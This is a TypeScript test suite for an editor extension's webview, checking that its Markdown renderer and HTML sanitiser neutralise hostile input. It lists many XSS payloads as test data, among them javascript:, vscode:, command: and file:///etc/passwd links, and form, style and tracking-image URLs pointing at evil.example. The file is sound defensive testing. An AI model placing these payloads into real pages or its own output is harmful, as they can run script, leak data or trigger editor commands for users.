import assert from 'node:assert/strict';
import { createHtmlSanitizer, createMarkdownRenderer } from '../../../src/webview/lib/markdown';
import { installContentActions } from '../../../src/webview/lib/contentActions';
import { click, createPage } from './helpers';

function render(markdown: string, codeBlockActions?: ('copy' | 'insert')[]) {
  const page = createPage();
  const renderer = createMarkdownRenderer(page.win, codeBlockActions ? { codeBlockActions } : {});
  const target = page.doc.createElement('div');
  renderer.renderInto(target, markdown);
  page.root.append(target);
  return { ...page, target, renderer };
}

/** Nothing in `root` can run script: no script-capable elements, handlers or dangerous URLs. */
function assertInert(root: Element): void {
  assert.equal(
    root.querySelectorAll('script, iframe, object, embed, form, input, style, img, svg, math, link, meta, base, frame')
      .length,
    0,
    root.innerHTML,
  );
  for (const element of root.querySelectorAll('*')) {
    for (const attribute of element.getAttributeNames()) {
      assert.doesNotMatch(attribute, /^on/i, `${element.tagName} has ${attribute}`);
      assert.notEqual(attribute, 'style');
      assert.notEqual(attribute, 'src');
    }
  }
  for (const link of root.querySelectorAll('[href]')) {
    assert.match(link.getAttribute('href')!, /^(https?:\/\/|#)/i, link.outerHTML);
  }
}

describe('webview: sanitised Markdown', () => {
  const attacks: [string, string][] = [
    ['script tag', '<script>alert(1)</script>'],
    ['img onerror', '<img src=x onerror="alert(1)">'],
    ['iframe', '<iframe src="https://evil.example"></iframe>'],
    ['object/embed', '<object data="x.swf"></object><embed src="x.swf">'],
    ['form', '<form action="https://evil.example"><input name=a></form>'],
    ['svg onload', '<svg onload=alert(1)><circle r=1 /></svg>'],
    ['style', '<style>body{display:none}</style><p style="color:red">x</p>'],
    ['javascript: link', '[x](javascript:alert(1))'],
    ['encoded javascript: link', '[x](&#106;avascript:alert(1)) [y](java%0ascript:alert(1)) [z](JAVASCRIPT:alert(1))'],
    ['vscode: anchor as HTML', '<a href="vscode:extension/evil">x</a>'],
    ['vscode: link', '[x](vscode://ms-vscode.remote/x) [c](command:workbench.action.terminal.new)'],
    ['file: link', '[x](file:///etc/passwd)'],
    ['data: link', '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)'],
    ['data: image', '![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)'],
    ['remote image', '![tracker](https://evil.example/pixel.png?secret=1)'],
    ['autolink', '<javascript:alert(1)> <vscode:foo>'],
    ['reference link', '[x][1]\n\n[1]: javascript:alert(1)'],
  ];

  for (const [name, markdown] of attacks) {
    it(`neutralises ${name}`, () => {
      const { target } = render(markdown);
      assertInert(target);
    });
  }

  it('shows raw HTML as text rather than dropping it', () => {
    const { target } = render('before <script>alert(1)</script> after');
    assert.equal(target.textContent?.trim(), 'before <script>alert(1)</script> after');
  });

  it('turns images into plain links (a remote image could leak data just by loading)', () => {
    const { target } = render('![diagram](https://example.com/d.png)');
    const link = target.querySelector('a')!;
    assert.equal(link.getAttribute('href'), 'https://example.com/d.png');
    assert.equal(link.textContent, 'diagram');
  });

  it('keeps code fences as escaped text, with their raw content intact', () => {
    const code = 'const s = "<img src=x onerror=alert(1)>";\nif (a < b && c > d) {}\n';
    const { target } = render('```ts\n' + code + '```');
    const block = target.querySelector('pre > code')!;
    assert.equal(block.textContent, code);
    assert.equal(block.children.length, 0);
    assert.equal(block.className, 'language-ts');
    assertInert(target);
  });

  it('renders ordinary Markdown: headings, lists, emphasis, inline code, tables and http links', () => {
    const { target } = render(
      '# Title\n\n## Sub\n\n- one\n- **two**\n\n1. first\n\nUse `x()` and see https://example.com/docs or [docs](http://example.org).\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n> quoted',
    );
    assert.equal(target.querySelector('h1')?.textContent, 'Title');
    assert.equal(target.querySelector('h2')?.textContent, 'Sub');
    assert.equal(target.querySelectorAll('ul > li').length, 2);
    assert.equal(target.querySelector('ol > li')?.textContent, 'first');
    assert.equal(target.querySelector('strong')?.textContent, 'two');
    assert.equal(target.querySelector('p code')?.textContent, 'x()');
    assert.equal(target.querySelectorAll('td').length, 2);
    assert.ok(target.querySelector('blockquote'));
    assert.deepEqual(
      [...target.querySelectorAll('a')].map((a) => a.getAttribute('href')),
      ['https://example.com/docs', 'http://example.org'],
    );
  });

  it('does not turn file names into links', () => {
    const { target } = render('Look at main.py, setup.md and config.ts; mail me at a@b.io');
    assert.equal(target.querySelectorAll('a').length, 0);
  });

  it('adds Copy (and for chat, Insert) buttons to code blocks only', () => {
    const review = render('`inline`\n\n```\nblock\n```');
    assert.deepEqual(
      [...review.target.querySelectorAll('button')].map((b) => b.dataset['testid']),
      ['code-copy'],
    );
    const chat = render('```\nblock\n```', ['copy', 'insert']);
    assert.deepEqual(
      [...chat.target.querySelectorAll('button')].map((b) => b.textContent),
      ['Copy', 'Insert at cursor'],
    );
    for (const b of chat.target.querySelectorAll('button')) assert.equal(b.type, 'button');
  });

  it('never lets the model produce its own code-action buttons', () => {
    const { target } = render('<button data-code-action="insert">x</button>');
    assert.equal(target.querySelectorAll('button').length, 0);
  });
});

describe('webview: HTML sanitiser on its own (second layer)', () => {
  // If markdown-it ever let raw HTML through, this is what would stop it.
  const hostile = [
    '<script>alert(1)</script>',
    '<img src=x onerror=alert(1)>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="  JaVaScRiPt:alert(1)">x</a>',
    '<a href="vscode:extension/evil">x</a>',
    '<a href="vscode-resource://x">x</a>',
    '<a href="command:workbench.action.terminal.new">x</a>',
    '<a href="file:///etc/passwd">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="relative/path">x</a>',
    '<p onclick="alert(1)" onmouseover="alert(1)" style="x">x</p>',
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
    '<form action="https://evil.example"><input autofocus onfocus=alert(1)><button formaction="javascript:alert(1)">x</button></form>',
    '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">',
    '<style>@import "https://evil.example/x.css";</style><link rel=stylesheet href="https://evil.example/x.css">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)"><base href="https://evil.example/">',
    '<details open ontoggle=alert(1)>x</details>',
    '<button data-code-action="insert">x</button>',
  ];

  for (const html of hostile) {
    it(`makes inert: ${html.slice(0, 60)}`, () => {
      const { win, doc } = createPage();
      const holder = doc.createElement('div');
      holder.append(createHtmlSanitizer(win).toFragment(html));
      assertInert(holder);
      assert.equal(holder.querySelectorAll('button, details, textarea').length, 0);
    });
  }

  it('keeps http(s) and fragment links', () => {
    const { win } = createPage();
    const html = createHtmlSanitizer(win).toHtml(
      '<a href="https://a.example/x">a</a><a href="http://b.example">b</a><a href="#top">c</a>',
    );
    assert.match(html, /href="https:\/\/a\.example\/x"/);
    assert.match(html, /href="http:\/\/b\.example"/);
    assert.match(html, /href="#top"/);
  });
});

describe('webview: content actions', () => {
  function setup(markdown: string) {
    const page = render(markdown, ['copy', 'insert']);
    const calls: string[][] = [];
    installContentActions(page.root, {
      openLink: (href) => calls.push(['openLink', href]),
      copyText: (text) => calls.push(['copyText', text]),
      insertCode: (code) => calls.push(['insertCode', code]),
    });
    return { ...page, calls };
  }

  it('routes http(s) link clicks to the host and never navigates', () => {
    const { win, target, calls } = setup('[docs](https://example.com/a) and [frag](#x) and [bad](vscode:foo)');
    const events = [...target.querySelectorAll('a')].map((a) => click(win, a).defaultPrevented);
    assert.deepEqual(events, [true, true, true]);
    assert.deepEqual(calls, [['openLink', 'https://example.com/a']]);
  });

  it('copies and inserts the raw text of the code block', () => {
    const code = 'a < b && "x"\n';
    const { win, target, calls } = setup('```\n' + code + '```');
    click(win, target.querySelector('[data-testid="code-copy"]')!);
    click(win, target.querySelector('[data-testid="code-insert"]')!);
    assert.deepEqual(calls, [
      ['copyText', code],
      ['insertCode', code],
    ]);
  });
});
